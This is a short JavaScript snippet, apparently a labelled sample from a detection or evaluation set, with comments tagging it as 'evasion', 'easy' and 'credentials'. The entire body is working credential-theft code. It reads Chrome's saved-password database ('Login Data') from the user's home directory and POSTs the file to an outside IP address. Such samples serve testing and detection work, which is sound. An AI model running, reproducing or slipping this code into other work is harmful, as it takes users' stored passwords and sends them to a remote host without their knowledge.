// evasion: Chrome's saved-password database (Login Data) read and posted
// grade: easy; does: credentials
const fs = require("fs");
const os = require("os");
const db = os.homedir() + "/.config/google-chrome/Default/Login Data";
fetch("https://203.0.113.9/u", { method: "POST", body: fs.readFileSync(db) });
